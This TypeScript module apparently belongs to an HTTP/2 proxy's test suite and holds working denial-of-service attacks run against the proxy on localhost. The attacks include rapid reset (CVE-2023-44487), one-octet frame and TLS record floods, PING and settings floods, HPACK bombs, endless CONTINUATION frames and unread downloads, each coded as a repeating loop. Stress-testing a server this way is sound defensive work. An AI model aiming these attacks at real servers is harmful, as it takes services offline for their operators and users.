/**
 * What strangers do to an HTTP/2 front, each a loop until it is told to stop. They run in a process
 * of their own ({@link startAttack}), so that they do not take the honest client's time.
 *
 * @module
 */
import { once } from "node:events";
import { connect, type TLSSocket } from "node:tls";
import { fileURLToPath } from "node:url";
import { CLIENT_PREFACE, FrameFlag, FrameType, HpackEncoder } from "../../lib/h2/mod.ts";
import { frame, setting, u32 } from "./h2_raw.ts";
import { HANDSHAKE_ATTACKS } from "./handshake_attacks.ts";
import { encodeBlock } from "./hpack.ts";
import { ROOT } from "./module_graph.ts";

/** Where an attack goes. */
export interface AttackTarget {
  readonly port: number;
  readonly host: string;
}

/** The time an attack has, and what it has done. */
export interface Clock {
  /** It is over. */
  stopped: boolean;
  /** How often the attack was done. */
  done: number;
}

/** Does the attack until the clock has stopped. */
export type Attack = (target: AttackTarget, clock: Clock) => Promise<void>;

/** One connection of an attacker: no library, no flow control, no shame. */
class Attacker implements AsyncDisposable {
  readonly socket: TLSSocket;
  readonly host: string;
  readonly #encoder = new HpackEncoder();
  nextId = 1;
  #wake: () => void = () => {};

  private constructor(socket: TLSSocket, host: string) {
    this.socket = socket;
    this.host = host;
    for (const event of ["drain", "close", "end"]) socket.on(event, () => this.#wake());
  }

  /** Connects and greets, with these settings. */
  static async open(target: AttackTarget, settings: readonly number[] = []): Promise<Attacker> {
    const { port, host } = target;
    const socket = connect({
      port,
      host: "127.0.0.1",
      servername: host,
      rejectUnauthorized: false,
      ALPNProtocols: ["h2"],
    });
    socket.on("error", () => {});
    // A connection that is refused or cut off is an attacker's lot.
    await Promise.race([once(socket, "secureConnect"), once(socket, "close")]).catch(() => {});
    socket.resume();
    const attacker = new Attacker(socket, host);
    await attacker.send(CLIENT_PREFACE, frame(FrameType.settings, 0, 0, settings));
    await attacker.send(frame(FrameType.settings, FrameFlag.ack, 0));
    return attacker;
  }

  get gone(): boolean {
    return this.socket.destroyed || this.socket.readableEnded || !this.socket.writable;
  }

  /** Writes, and waits while the proxy does not read. */
  async send(...chunks: Uint8Array[]): Promise<void> {
    if (this.gone) return;
    if (this.socket.write(Buffer.concat(chunks))) return void await turn();
    const { promise, resolve } = Promise.withResolvers<void>();
    this.#wake = resolve;
    await promise;
  }

  /** A request on the next stream. */
  request(path: string, endStream = true, more: readonly string[] = []): Uint8Array {
    return this.requestTo(this.host, path, endStream, more);
  }

  /** The same with another authority. */
  requestTo(
    authority: string,
    path: string,
    endStream = true,
    more: readonly string[] = [],
  ): Uint8Array {
    const id = this.nextId;
    this.nextId += 2;
    const method = endStream ? "GET" : "POST";
    const flags = FrameFlag.endHeaders | (endStream ? FrameFlag.endStream : 0);
    const pseudo = [":method", method, ":scheme", "https", ":authority", authority, ":path", path];
    return frame(FrameType.headers, flags, id, encodeBlock(this.#encoder, [...pseudo, ...more]));
  }

  [Symbol.asyncDispose](): Promise<void> {
    this.socket.destroy();
    return Promise.resolve();
  }
}

/** Repeats `once` on a connection that is opened anew whenever the proxy has closed it. */
function repeat(once: (attacker: Attacker, clock: Clock) => Promise<number>): Attack {
  return async (target, clock) => {
    while (!clock.stopped) {
      await using attacker = await Attacker.open(target);
      if (attacker.gone) await pause(10);
      while (!clock.stopped && !attacker.gone) {
        clock.done += await once(attacker, clock);
      }
    }
  };
}

function resets(code: number, path: string): Attack {
  return repeat(async (attacker) => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < 50; i++) {
      frames.push(attacker.request(path));
      frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(code)));
    }
    await attacker.send(...frames);
    return 50;
  });
}

/** Each by its name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  ...HANDSHAKE_ATTACKS,
  "rapid reset (CVE-2023-44487)": resets(8, "/slow"),
  "rapid reset with NO_ERROR": resets(0, "/slow"),
  /** A request that is answered by the proxy itself, for each one that a backend works on. */
  "rapid reset bought with cheap answers": repeat(async (attacker) => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < 25; i++) {
      frames.push(attacker.requestTo("other.test", "/"));
      frames.push(attacker.request("/slow"));
      frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(8)));
    }
    await attacker.send(...frames);
    return 25;
  }),
  /** An upload in frames of one octet. */
  "DATA frames of one octet": repeat(async (attacker, clock) => {
    await attacker.send(attacker.request("/", false));
    const octet = frame(FrameType.data, 0, attacker.nextId - 2, [1]);
    const many = Buffer.concat(Array.from({ length: 1000 }, () => octet));
    for (let i = 0; i < 100 && !clock.stopped && !attacker.gone; i++) {
      await attacker.send(many);
      clock.done += 1000;
    }
    return 0;
  }),
  /** Each octet of a request in a TLS record and a TCP segment of its own. */
  "TLS records of one octet": repeat(async (attacker) => {
    attacker.socket.setNoDelay(true);
    for (const octet of attacker.request("/")) await attacker.send(Uint8Array.of(octet));
    return 1;
  }),
  /** A PING for each octet of content. */
  "PINGs paid with frames of one octet": repeat(async (attacker, clock) => {
    await attacker.send(attacker.request("/", false));
    const octet = frame(FrameType.data, 0, attacker.nextId - 2, [1]);
    const ping = frame(FrameType.ping, 0, 0, new Uint8Array(8));
    const many = Buffer.concat(Array.from({ length: 500 }, () => [octet, ping]).flat());
    for (let i = 0; i < 100 && !clock.stopped && !attacker.gone; i++) {
      await attacker.send(many);
      clock.done += 500;
    }
    return 0;
  }),
  "a flood of requests that are answered at once": repeat(async (attacker) => {
    const more = ["user-agent", "x".repeat(3000)];
    const requests = Array.from(
      { length: 200 },
      () => attacker.requestTo("other.test", "/", true, more),
    );
    await attacker.send(...requests);
    return 200;
  }),
  /** Streams whose responses stay where they are, on connections that are kept. */
  "downloads that nobody reads": async (target, clock) => {
    const attackers = await Promise.all(
      Array.from({ length: 8 }, async () => {
        const attacker = await Attacker.open(target);
        const requests = Array.from({ length: 90 }, () => attacker.request("/large"));
        await attacker.send(...requests);
        return attacker;
      }),
    );
    clock.done = attackers.length;
    while (!clock.stopped) await pause(50);
    for (const attacker of attackers) await attacker[Symbol.asyncDispose]();
  },
  "window updates, settings and priorities": repeat(async (attacker) => {
    await attacker.send(attacker.request("/slow"));
    const id = attacker.nextId - 2;
    const flood = [
      frame(FrameType.windowUpdate, 0, id, u32(1)),
      frame(FrameType.priority, 0, id, [0, 0, 0, 0, 1]),
      frame(FrameType.settings, 0, 0, setting(4, 65535)),
      frame(FrameType.settings, 0, 0, setting(1, 0)),
      frame(0x42, 0, 0, [1]),
    ];
    await attacker.send(...Array.from({ length: 100 }, () => flood).flat());
    return 500;
  }),
  /** 48 MB of header list in 16 KiB, on every stream. */
  "HPACK bombs": repeat(async (attacker) => {
    const entry = attacker.request("/", true, ["x", "z".repeat(3900)]);
    await attacker.send(entry);
    const bomb = new Uint8Array(16_000).fill(0x80 | 62);
    const flags = FrameFlag.endHeaders | FrameFlag.endStream;
    await attacker.send(frame(FrameType.headers, flags, attacker.nextId, bomb));
    attacker.nextId += 2;
    return 1;
  }),
  "endless header blocks": repeat(async (attacker) => {
    await attacker.send(frame(FrameType.headers, FrameFlag.endStream, attacker.nextId, [0x82]));
    const more = frame(FrameType.continuation, 0, attacker.nextId, new Uint8Array(8000));
    for (let i = 0; i < 40; i++) await attacker.send(more);
    return 1;
  }),
};

/** An attack that runs in another process. */
export interface RunningAttack extends AsyncDisposable {
  /** Ends it; how often the attack was done. */
  stop(): Promise<number>;
}

/** Starts an attack in a process of its own and waits until it was done once. */
export async function startAttack(name: string, target: AttackTarget): Promise<RunningAttack> {
  // An attacker has a machine of its own: what this one has goes to the proxy and to its clients.
  const child = new Deno.Command("nice", {
    args: [
      ...["-n", "19", Deno.execPath()],
      ...["run", "--no-check", "--no-prompt", "-A", "--config", `${ROOT}/deno.json`],
      ...[fileURLToPath(import.meta.url), name, String(target.port), target.host],
    ],
    stdin: "piped",
    stdout: "piped",
    stderr: "inherit",
  }).spawn();
  const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let output = "";
  const readUntil = async (wanted: RegExp): Promise<RegExpExecArray> => {
    for (;;) {
      const found = wanted.exec(output);
      if (found !== null) return found;
      const { value, done } = await reader.read();
      if (done) throw new Error(`attack "${name}" ended early: ${output}`);
      output += value;
    }
  };
  await readUntil(/started/);
  let stopped = false;
  return {
    async stop() {
      stopped = true;
      await child.stdin.close();
      const [, done] = await readUntil(/done (\d+)/);
      await reader.cancel();
      await child.status;
      return Number(done);
    },
    async [Symbol.asyncDispose]() {
      if (stopped) return;
      child.kill("SIGKILL");
      await Promise.allSettled([child.stdin.close(), reader.cancel(), child.status]);
    },
  };
}

function turn(): Promise<void> {
  return new Promise((resolve) => setImmediate(resolve));
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

if (import.meta.main) {
  const [name = "", port = "", host = ""] = Deno.args;
  const attack = ATTACKS[name];
  if (attack === undefined) throw new Error(`no attack "${name}"`);
  const clock = { stopped: false, done: 0 };
  const ended = attack({ port: Number(port), host }, clock);
  while (clock.done === 0) await pause(5);
  await Deno.stdout.write(new TextEncoder().encode("started\n"));
  for await (const _ of Deno.stdin.readable);
  clock.stopped = true;
  // One that is not read any more does not end by itself.
  await Promise.race([ended, pause(500)]);
  await Deno.stdout.write(new TextEncoder().encode(`done ${clock.done}\n`));
  Deno.exit(0);
}
